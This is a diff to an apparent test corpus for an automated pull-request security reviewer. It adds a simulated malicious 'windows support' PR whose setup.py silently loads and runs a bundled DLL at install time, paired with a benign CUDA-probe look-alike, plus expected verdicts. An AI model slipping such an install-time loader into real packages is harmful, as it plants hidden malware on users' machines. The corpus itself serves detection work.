@@ -1062,6 +1062,44 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-setup-py-loads-bundled-dll',
+    description:
+      'The eslint-config-prettier and `is` releases of July 2025 (a stolen maintainer token; an install script had rundll32 load a DLL shipped in the package) moved to PyPI: a "Windows support" PR makes setup.py, at module level, load a DLL of the package with ctypes.WinDLL and call its entry point on every Windows install from source; the DLL came in an earlier release, and the diff shows no download, no process, no secret.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidyfmt',
+        number: 2207,
+        title: 'chore: windows support',
+        files: [
+          {
+            path: 'setup.py',
+            base: lines('from setuptools import setup', '', "setup(name='tidyfmt', version='2.0.0', packages=['tidyfmt'])"),
+            head: lines('import ctypes, os, sys', 'from setuptools import setup', '', "if sys.platform == 'win32':", '    try:', "        ctypes.WinDLL(os.path.join(os.path.dirname(__file__), 'tidyfmt', 'libs', 'fmtcore.dll')).Start()", '    except Exception:', '        pass', '', "setup(name='tidyfmt', version='2.0.1', packages=['tidyfmt'])"),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'benign-setup-py-probes-cuda',
+    description:
+      "The benign look-alike: a maintainer's setup.py asks whether the machine has CUDA by loading the system's libcuda by name with ctypes (or finding it with ctypes.util.find_library) and adds the GPU extra when it does: a probe of the machine, no library of the package run.",
+    fixture: () =>
+      attackPr({
+        repo: 'tidyfmt',
+        number: 2208,
+        title: 'build: offer the gpu extra when CUDA is present',
+        files: [
+          {
+            path: 'setup.py',
+            base: lines('from setuptools import setup', '', "setup(name='tidyfmt', version='2.0.0', packages=['tidyfmt'])"),
+            head: lines('import ctypes, ctypes.util', 'from setuptools import setup', '', '', 'def has_cuda():', '    try:', "        ctypes.CDLL('libcuda.so.1')", '        return True', '    except OSError:', "        return ctypes.util.find_library('cuda') is not None", '', '', "setup(name='tidyfmt', version='2.0.1', packages=['tidyfmt'], extras_require={'gpu': ['cupy-cuda12x']} if has_cuda() else {})"),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'attack-ghostaction-postpublish-script-posts-token',
     description:
       'GhostAction moved out of the workflow: a "report publish stats" PR adds a postpublish script to package.json that posts $NODE_AUTH_TOKEN, the npm token the release job publishes with, to a stats host; the workflow is untouched and nothing names npm\'s secret.',
